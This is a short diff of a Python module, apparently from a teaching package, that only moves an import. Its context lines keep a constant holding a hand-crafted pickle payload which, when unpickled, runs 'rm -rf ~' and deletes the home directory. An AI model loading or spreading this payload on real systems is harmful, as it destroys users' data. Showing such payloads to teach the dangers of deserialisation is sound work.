@@ -7,8 +7,8 @@ from functools import cache
 
 import torch
 
-from lessons.prompt import said
 from lessons.saving.upload import entries_of
+from lessons.toolkit.python_prompt import said
 
 COMMAND = b"cposix\nsystem\n(Vrm -rf ~\ntR."
 """A pickle by hand: fetch posix.system, give it a text, call it."""
